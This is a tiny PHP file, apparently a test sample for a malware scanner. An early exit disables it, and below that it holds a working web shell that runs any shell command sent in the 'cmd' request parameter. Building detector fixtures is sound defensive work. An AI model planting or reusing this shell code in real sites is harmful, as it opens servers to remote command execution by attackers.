<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$cmd = trim($_REQUEST['cmd']);
echo "<pre>";
$out = shell_exec($cmd . " 2>&1");
echo htmlspecialchars($out) . "</pre>";
